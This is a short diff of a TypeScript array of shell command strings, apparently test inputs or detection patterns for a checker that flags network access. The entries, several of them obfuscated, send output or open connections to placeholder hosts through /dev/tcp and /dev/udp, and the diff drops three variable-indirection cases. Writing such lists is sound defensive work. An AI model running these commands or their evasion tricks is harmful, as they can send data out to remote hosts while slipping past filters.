@@ -210,12 +210,9 @@ const SOURCES: readonly string[] = [
   'echo $COMMAND &>>/dev/udp/HOST/PORT',
   '{ ls; } >/dev/tcp/HOST/PORT',
   'exec 3<>/dev/tcp/HOST/PORT',
-  'cat <"$way"',
-  'cat <$way',
   "cat <$'/dev/tcp/HOST/PORT'",
   'cat </dev/${none:-tcp}/HOST/PORT',
   'cat </d""ev/t\\cp/"HOST"/PORT',
-  'for i in "$way"; do cat <"$i"; done',
   'cat <<< "$way" </dev/null',
   'cat /dev/tcp/HOST/PORT </dev//tcp/HOST/PORT',
   // Clones, whose files become settings.
